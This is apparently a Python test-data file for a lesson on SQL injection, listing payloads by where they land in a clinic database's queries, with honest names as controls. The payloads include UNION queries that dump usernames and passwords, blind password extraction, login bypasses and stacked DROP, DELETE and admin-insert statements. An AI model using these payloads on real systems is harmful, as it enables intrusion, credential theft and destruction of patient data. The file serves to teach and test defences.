"""Hostile text for lesson 03, part one: what makes a database obey, as data.

Each payload says in which context it lands, of what kind it is, and what it proves where it works:

    text      inside a quoted pattern:     name LIKE '%...%'
    number    where a bare number stands:  year = ...
    order     after ORDER BY
    stored    a user name read back from the database, inside quotes
    login     a user name in a log-in form, inside quotes

The tables are those of the Clinic: users, patients, notes.
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class Payload:
    """One hostile text: where it is meant to land, of what kind it is, what it proves."""

    text: str
    kind: str
    context: str
    proves: str


def of(context: str, kind: str, proves: str, *texts: str) -> list[Payload]:
    return [Payload(text, kind, context, proves) for text in texts]


_ROWS = "the condition no longer filters: rows that nobody asked for come back"
_LEAK = "a second SELECT is joined on, and another table comes back as patients"
_BLIND = "the answer depends on a secret: a question a request reads it letter by letter"
_ERROR = "the database's parser read the text, and says so"
_WORK = "the text makes the database compute"
_STACK = "a second statement: where the driver takes several, it runs"

TEXT = [
    *of(
        "text", "tautology", _ROWS,
        "' OR 1=1 --", "' OR '1'='1", "' OR ''='", "%' OR 1 --", "' OR NOT 0 --",
        "' OR 'a' LIKE 'a' --", "' OR 2 BETWEEN 1 AND 3 --", "' OR 5 IN (5) --",
        "' OR name IS NOT NULL --", "' OR EXISTS(SELECT 1 FROM users) --", "' OR 1=1 /*",
        "' OR 1=1 -- '", "' OR code LIKE 'P-%' --",
    ),
    *of(
        "text", "disguised tautology", _ROWS,
        "'/**/OR/**/1=1/**/--", "'\tOR\t1=1\t--", "'\nOR\n1=1\n--", "' oR 1=1 --",
        "'OR(1)=(1)--", "' OR 0x1=1 --", "' OR 1e0=1 --", "' OR -1<0 --",
        "' OR char(97)=char(97) --", "' OR ~0 --", "'\fOR 1=1 --", "' OR 'x'||'y'='xy' --",
    ),
    *of("text", "concatenation", _ROWS, "' || '", "'||''||'", "' || char(37) || '"),
    *of(
        "text", "union", _LEAK,
        "' UNION SELECT username, password FROM users --",
        "' AND 0 UNION SELECT username, password FROM users --",
        "' UNION ALL SELECT username || ':' || password, role FROM users --",
        "' UNION SELECT group_concat(password), 1 FROM users --",
        "' UNION SELECT name, sql FROM sqlite_master --",
        "' UNION SELECT code, insurance FROM patients --",
        "' UNION SELECT sqlite_version(), 1 --",
        "' UNION SELECT hex(password), 2 FROM users WHERE role = char(97,100,109,105,110) --",
        "' UNION SELECT * FROM (SELECT username, password FROM users) --",
        "' UNION VALUES ('planted', 'row') --",
        "'/**/uNiOn/**/sElEcT/**/username,password/**/fRoM/**/users--",
        "' EXCEPT SELECT code, name FROM patients --",
    ),
    *of("text", "union, wrong width", _ERROR, "' UNION SELECT NULL, NULL, NULL --"),
    *of(
        "text", "blind", _BLIND,
        "%' AND (SELECT substr(password, 1, 1) FROM users WHERE username='root') > '' --",
        "%' AND (SELECT count(*) FROM users) > 0 --",
        "%' AND unicode(substr((SELECT password FROM users LIMIT 1), 1, 1)) < 256 --",
        "%' AND (SELECT password FROM users LIMIT 1) LIKE '%' --",
        "%' AND EXISTS(SELECT 1 FROM sqlite_master WHERE name='users') --",
        "%' AND length((SELECT password FROM users LIMIT 1)) BETWEEN 1 AND 64 --",
        "%' AND (SELECT password GLOB '*' FROM users LIMIT 1) --",
        "%' AND CASE WHEN (SELECT 1) THEN 1 ELSE abs(-9223372036854775808) END --",
    ),
    *of(
        "text", "error", _ERROR,
        "'", "'''", "') OR 1=1 --", "' AND nosuchcolumn = 1 --",
        "' AND abs(-9223372036854775808) --", "' AND load_extension('none') --",
        "' OORR 1=1 --", "' UNIUNIONON SELSELECTECT username, password FROM users --",
    ),
    *of(
        "text", "other dialects", _ERROR,
        "' OR SLEEP(0) #", "' OR pg_sleep(0) --", "' UNION SELECT @@version, 1 --",
        "'; WAITFOR DELAY '0:0:0' --", "' AND extractvalue(1, concat(0x7e, version())) --",
    ),
    *of(
        "text", "work", _WORK,
        "' OR (SELECT count(*) FROM users a, users b, users c) > 0 --",
        "' OR length(hex(randomblob(20000))) > 0 --",
        "' OR (WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n+1 FROM t LIMIT 99)"
        " SELECT max(n) FROM t) > 0 --",
    ),
    *of(
        "text", "stacked", _STACK,
        "'; DROP TABLE patients; --", "'; UPDATE users SET role='admin'; --",
        "'; DELETE FROM patients; --",
        "'; INSERT INTO users (username, password, role) VALUES ('eve', 'x', 'admin'); --",
    ),
    *of(
        "text", "against escaping", "SQLite has no backslash escapes: the quote still closes",
        "\\' OR 1=1 --", "\\' UNION SELECT username, password FROM users --",
    ),
    *of(
        "text", "wildcard", "no quote is needed: % and _ are operators inside a LIKE pattern",
        "%", "%%", "_", "_%_", "%a%e%",
    ),
]  # fmt: skip

NUMBER = [
    *of(
        "number", "tautology", "no quote is needed: a bare number ends at the first space",
        "0 OR 1=1", "1950 OR 1", "-1 OR name LIKE '%'", "NULL OR 1", "0 OR code > ''",
    ),
    *of(
        "number", "union", _LEAK,
        "0 UNION SELECT username, password FROM users",
        "0 UNION ALL SELECT code, insurance FROM patients --",
    ),
    *of(
        "number", "expression", "the database computes what a client wrote",
        "(SELECT 1950)", "1949+1", "1950 --", "1950/**/", "+1950+0",
        "CASE WHEN (SELECT 1 FROM users) THEN 1950 ELSE 0 END",
        "1950 AND EXISTS(SELECT 1 FROM users WHERE role='admin')",
    ),
    *of(
        "number", "closes the quote", "a year between quotes ends where the client wants it",
        "1950' OR 1=1 --", '1950" OR 1=1 --', "1950') OR 1=1 --", "' OR '1'='1", '" OR "1"="1',
        "1950' UNION SELECT username, password FROM users --",
        '1950" UNION SELECT username, password FROM users --',
    ),
    *of("number", "stacked", _STACK, "1950; DROP TABLE patients"),
    *of("number", "wildcard", "a pattern where a year was meant", "%", "19__", "195_"),
]  # fmt: skip

ORDER = [
    *of(
        "order", "column not offered", "the order of the rows tells the order of a hidden column",
        "insurance", "name, insurance", "patients.insurance", '"insurance"', "[insurance]",
        "`insurance`", "length(insurance)", "INSURANCE", "diagnosis", "rowid", "email DESC",
        "email", "_rowid_", "oid", "insurance,\nname",
    ),
    *of(
        "order", "blind", _BLIND,
        "CASE WHEN (SELECT substr(password,1,1) FROM users WHERE username='root')>'8'"
        " THEN name ELSE code END",
        "(SELECT password FROM users LIMIT 1)",
        "iif((SELECT count(*) FROM users) > 2, name, code)",
    ),
    *of(
        "order", "not the word itself", "whatever is no name that is offered is refused",
        "", " name", "name ", "name\n", "NAME", "name,code", "+name", "name,", "\uff4eame",
    ),
    *of("order", "position", "a number after ORDER BY counts columns", "1", "2 DESC"),
    *of(
        "order", "tail", "the statement goes on after the column",
        "name --", "name LIMIT 1", "name LIMIT 0 --", "name COLLATE NOCASE", "name DESC, code",
        "code name born", "name/**/DESC", "name, 1", "name NULLS LAST",
    ),
    *of("order", "error", _ERROR, "abs(-9223372036854775808)", "nosuchcolumn", "nam", "name'"),
    *of("order", "stacked", _STACK, "name; DROP TABLE patients", "name;"),
    *of("order", "random", "an expression of the client's own", "random()", "NULL", "-name"),
]  # fmt: skip

STORED = [
    *of(
        "stored", "comment", "the name ends the string early and comes out as somebody else",
        "root' --", "root'/*", "root';--",
    ),
    *of(
        "stored", "tautology", "a name that matches every author",
        "x' OR '1'='1", "' OR 1=1 --", "' OR author LIKE '%", "x' OR author <> 'x", "'||author||'",
    ),
    *of(
        "stored", "union", _LEAK,
        "nobody' UNION SELECT password FROM users --",
        "nobody' UNION SELECT title FROM notes WHERE author='root' --",
        "nobody' UNION SELECT insurance FROM patients --",
    ),
    *of("stored", "error", _ERROR, "'", "it's", "a'b'c"),
    *of("stored", "stacked", _STACK, "x'; DROP TABLE notes; --"),
    *of("stored", "wildcard", "% and _ are operators inside a LIKE pattern", "%", "r__t"),
]  # fmt: skip

# Names that stand beside 'root' for a loose comparison; each is another user's.
NEAR = [
    *of(
        "stored", "another name", "what is merely like a name is another name",
        "ROOT", "Root", "root ", " root", "root\n", "\troot", "root\xa0", "\uff52\uff4f\uff4f\uff54",
        "ro\u200bot", "roo", "oot", "roots", "r\u00f6ot", "ro\u0308ot", "root\0", "root\0x",
    ),
    *of("stored", "pattern", "an operator of GLOB, of LIKE or of a regular expression",
        "*", "r*", "r?ot", "[r]oot", "[^x]oot", "ro%", "____", ".*", "r.ot", "root|ada", "^root$"),
]  # fmt: skip

LOGIN = [
    *of(
        "login", "bypass", "logged in without a password",
        "' OR 1=1 --", "root' --", "root'/*", "' OR role='admin' --", "x' OR username='root' --",
        "' OR username LIKE 'r%' --", "root' OR 'a'='b", "' OR length(username)=4 --",
    ),
    *of("login", "error", _ERROR, "'", "root'"),
]  # fmt: skip

SQL = [*TEXT, *NUMBER, *ORDER, *STORED, *LOGIN]

# Each sign in a name of its own, and patterns made of them: a search takes them as they are.
SIGNS = [sign for sign in map(chr, range(32, 127)) if not sign.isalnum()]
SIGN_NAMES = tuple(f"ux{sign}yu" for sign in SIGNS)
PATTERNS = [
    *of(
        "text", "pattern", "signs that are operators in a pattern: LIKE, GLOB, regular expressions",
        *SIGNS, *(f"{sign}%" for sign in SIGNS), *(f"{sign}_" for sign in SIGNS),
        *(name[1:-1] for name in SIGN_NAMES), "[a-z]", "[A-Z]", "[^x]", "u*u", "u?", ".*", "x.y",
        "u|x", "^u", "u$", "\\w", "Fox ", "  ", "ux%yu ", "Zak", "\uff2f'Brien",
    )
]  # fmt: skip

HONEST_NAMES = (
    "Siobhan O'Brien", "D'Angelo--Smith", "Select Union", "Orla Dropper", "田中 さくら", "Łukasz Żak",
    "Zoë Müller", "50% off", "50 kg off", "a_b", "acb", "5 < 6", "I <3 you", 'the "quick" one',
    "C:\\lab\\", "x; y -- z", "O''Neil", "Zoe\u0308 in two signs",
)  # fmt: skip
